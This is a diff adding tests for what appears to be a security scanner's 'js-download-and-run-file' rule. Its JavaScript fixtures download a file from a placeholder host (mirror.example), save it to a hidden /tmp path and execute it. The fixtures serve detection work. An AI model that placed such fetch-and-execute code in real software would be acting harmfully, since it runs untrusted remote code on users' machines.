@@ -77,3 +77,52 @@ for hook in hooks:
 """
     found = [f for f in _findings(capsys, tmp_path, "t.py", text) if f["rule_id"] == "http-post-of-environment"]
     assert {f["line"] for f in found} == {5, 7}
+
+
+COLLECTED = """const https = require('https');
+const fs = require('fs');
+const { execFileSync, execSync } = require('child_process');
+https.get('https://mirror.example/tool', (res) => {
+  const parts = [];
+  res.on('data', (c) => parts.push(c));
+  res.on('end', () => {
+    fs.writeFileSync('/tmp/.tool', Buffer.concat(parts));
+    %s
+  });
+});
+"""
+
+
+def test_a_download_collected_in_pieces_and_run_by_its_literal_path(capsys, tmp_path):
+    found = _findings(capsys, tmp_path, "d.js", COLLECTED % "execFileSync('/tmp/.tool');")
+    hits = [f for f in found if f["rule_id"] == "js-download-and-run-file"]
+    assert [f["line"] for f in hits] == [9], found
+    notes = _notes(hits[0])
+    for part in ("https.get(...) response given to the callback", "parts.push(...)", "Buffer.concat(...)",
+                 "the path /tmp/.tool written at line 8"):
+        assert part in notes, notes
+    # the same download only unpacked or hashed by a command naming it: not run
+    for command in ("execSync('tar xzf /tmp/.tool');", "execSync('sha256sum /tmp/.tool');",
+                    "execFileSync('/tmp/.other');"):
+        quiet = _findings(capsys, tmp_path, "q.js", COLLECTED % command)
+        assert not [f for f in quiet if f["rule_id"] == "js-download-and-run-file"], command
+
+
+def test_promisified_exec_and_promise_chains_reach_the_written_file(capsys, tmp_path):
+    text = """const fs = require('fs');
+const util = require('util');
+const run = util.promisify(require('child_process').exec);
+const { spawn } = require('child_process');
+fetch('https://mirror.example/b').then((r) => r.arrayBuffer()).then((buf) => {
+  fs.writeFileSync('/tmp/.b', Buffer.from(buf));
+  spawn('/tmp/.b');
+});
+async function go(axios) {
+  const r = await axios.get('https://mirror.example/x');
+  const dest = '/tmp/.x';
+  fs.writeFileSync(dest, r.data);
+  await run(dest);
+}
+"""
+    found = [f for f in _findings(capsys, tmp_path, "p.js", text) if f["rule_id"] == "js-download-and-run-file"]
+    assert {f["line"] for f in found} == {7, 13}, found
